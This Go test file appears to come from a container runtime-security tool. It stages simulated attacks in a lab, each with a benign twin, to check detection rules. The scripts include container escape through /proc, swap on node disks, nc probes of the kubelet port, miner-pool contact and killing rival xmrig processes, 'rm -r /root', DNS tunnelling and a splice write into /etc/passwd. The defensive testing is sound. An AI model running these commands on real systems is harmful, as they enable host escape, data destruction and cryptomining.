package detections

import (
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"bulwark/internal/need"
	"bulwark/test/runtime/lab"
)

// deeds are attacks that the lab's own actions leave out. DEED is the helper of this package, which is mounted as if it were of the image.
func deeds() []lab.Action {
	with := lab.Options{Mounts: []string{"DIR/deed:/usr/bin/deed:ro"}}
	privileged := with
	privileged.Privileged = true
	node := with
	node.HostPID, node.CapAdd = true, []string{"SYS_PTRACE"}
	return []lab.Action{
		{
			Name: "outside-folder", Row: 8, Rule: "escape/cwd-outside", Escape: true, Options: node, Before: waiting,
			Script: "cd /proc/$LAB_PID/root/tmp\necho done", Twin: lab.Twin{Options: &with, Script: "cd /proc/self/root/tmp\ncd /usr\necho done"},
		},
		{
			Name: "swap", Row: 17, Rule: "escape/node-control", Options: privileged, Before: swap,
			Script: "mkswap $LAB_DISK > /dev/null\nswapon $LAB_DISK\nswapoff $LAB_DISK\necho done", Twin: lab.Twin{Script: "cat /proc/swaps\necho done"},
		},
		{
			Name: "kubelet", Row: 19, Rule: "network/node-service", Options: with, Before: kubelet,
			Script: "echo x | nc -w 2 $LAB_BRIDGE 10250\necho done", Twin: lab.Twin{Script: "echo x | nc -w 2 $LAB_BRIDGE 10251\necho done"},
		},
		{
			Name: "load-library", Row: 27, Rule: "drift/new-library", Options: with,
			Script: "cp /usr/local/bin/lab /tmp/module.so\ndeed load /tmp/module.so", Twin: lab.Twin{Script: "deed load /usr/local/bin/lab"},
		},
		{
			Name: "pool-hello", Row: 36, Rule: "miner/pool-name", Options: with,
			Script: "deed hello xmr.2miners.com", Twin: lab.Twin{Script: "deed hello www.example.org"},
		},
		{
			Name: "rounding", Row: 37, Rule: "miner/score", Options: with,
			Script: "cp $(which deed) /opt/worker\n/opt/worker round up", Twin: lab.Twin{Script: "deed round up"},
		},
		{
			Name: "rivals", Row: 41, Rule: "miner/score", Options: privileged, Before: pages,
			Script: "pkill -9 xmrig || true\ncp /bin/busybox /opt/kthread\n/opt/kthread true || true\nn=$(cat /proc/sys/vm/nr_hugepages)\necho $n > /proc/sys/vm/nr_hugepages\necho done",
			Twin:   lab.Twin{Script: "pkill -HUP nginx || true\ncat /proc/sys/vm/nr_hugepages\necho done"},
		},
		{
			Name: "made-executable", Row: 43, Rule: "drift/made-executable", Options: with,
			Script: "echo x > /tmp/fetched\n/bin/chmod +x /tmp/fetched\necho done", Twin: lab.Twin{Script: "echo x > /tmp/fetched\n/bin/chmod 600 /tmp/fetched\necho done"},
		},
		{
			Name: "history-by-descriptor", Row: 44, Rule: "abuse/trace-removal", Options: with,
			Script: "rm -r /root\necho done", Twin: lab.Twin{Script: "mkdir -p /srv/a/b\necho x > /srv/a/b/c\nrm -r /srv/a\necho done"},
		},
		{
			Name: "dns-tunnel", Row: 48, Rule: "network/dns-tunnel", Options: with,
			Script: "deed ask tunnel.example 0a1b2c", Twin: lab.Twin{Script: "deed ask www.example.org"},
		},
		{
			Name: "descriptors", Row: 49, Rule: "abuse/descriptors-exhausted", Options: with,
			Script: "deed sockets", Twin: lab.Twin{Script: "deed hello www.example.org"},
		},
		{
			Name: "splice-byte", Row: 53, Rule: "escape/pipe-page", Options: with,
			Script: "deed splice /etc/passwd 1", Twin: lab.Twin{Script: "deed splice /etc/passwd 20"},
		},
		{
			Name: "passwords", Row: 0, Rule: "abuse/brute-force", Options: with,
			Script: `deed refuse 127.0.0.1:6379 '-WRONGPASS invalid username-password pair or user is disabled.\r\n'`,
			Twin:   lab.Twin{Script: `deed refuse 127.0.0.1:6379 '+OK\r\n'`},
		},
		{
			Name: "passwords-over-one", Row: 0, Rule: "abuse/brute-force", Options: with,
			Script: `deed refuse 127.0.0.1:6379 '-WRONGPASS invalid username-password pair or user is disabled.\r\n' over-one`,
			Twin:   lab.Twin{Script: `deed refuse 127.0.0.1:6379 '+OK\r\n' over-one`},
		},
	}
}

// helper builds this package's helper into the folder of each action.
func helper(t testing.TB) string {
	t.Helper()
	need.Tool(t, "go")
	file := filepath.Join(t.TempDir(), "deed")
	cmd := exec.Command("go", "build", "-trimpath", "-ldflags=-s -w", "-o", file, "bulwark/test/detections/helper")
	cmd.Env = append(os.Environ(), "CGO_ENABLED=0")
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	return file
}

// bring has the helper in the action's folder before whatever else it needs.
func bring(file string, a *lab.Action) {
	before := a.Before
	a.Before = func(s *lab.Stage) {
		s.Helper()
		b, err := os.ReadFile(file)
		if err != nil {
			s.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(s.Dir, "deed"), b, 0o755); err != nil {
			s.Fatal(err)
		}
		if before != nil {
			before(s)
		}
	}
}

// kubelet listens where a kubelet would, and at another port.
func kubelet(s *lab.Stage) {
	s.Helper()
	if s.Docker.Bridge == "" {
		need.Missing(s, "a network for containers")
	}
	for _, port := range []string{"10250", "10251"} {
		l, err := net.Listen("tcp", net.JoinHostPort(s.Docker.Bridge, port))
		if err != nil {
			continue // it does already
		}
		s.Cleanup(func() { l.Close() })
		go func() {
			for {
				c, err := l.Accept()
				if err != nil {
					return
				}
				c.Close()
			}
		}()
	}
}

// waiting is a process of the node: LAB_PID.
func waiting(s *lab.Stage) {
	s.Helper()
	cmd := exec.Command(s.Docker.Helper, "sleep", "2m")
	if err := cmd.Start(); err != nil {
		s.Fatal(err)
	}
	s.Cleanup(func() { _ = cmd.Process.Kill(); _ = cmd.Wait() })
	s.Env["LAB_PID"] = strconv.Itoa(cmd.Process.Pid)
}

// swap is a block device of the node that may be written: LAB_DISK.
func swap(s *lab.Stage) {
	s.Helper()
	if _, err := os.Stat("/proc/swaps"); err != nil {
		s.Skip("this kernel swaps nothing out")
	}
	file := filepath.Join(s.Dir, "swap")
	if err := os.WriteFile(file, make([]byte, 4<<20), 0o600); err != nil {
		s.Fatal(err)
	}
	out, err := exec.Command(need.Tool(s, "losetup"), "--show", "-f", file).CombinedOutput()
	device := strings.TrimSpace(string(out))
	if err != nil {
		need.Missing(s, "a loop device: %v %s", err, out)
	}
	s.Cleanup(func() {
		_ = exec.Command("swapoff", device).Run()
		if out, err := exec.Command("losetup", "-d", device).CombinedOutput(); err != nil {
			s.Errorf("%s stays: %v %s", device, err, out)
		}
	})
	s.Env["LAB_DISK"] = device
}

// pages skips where the kernel has no huge pages.
func pages(s *lab.Stage) {
	s.Helper()
	if _, err := os.Stat("/proc/sys/vm/nr_hugepages"); err != nil {
		s.Skip("this kernel has no huge pages")
	}
}
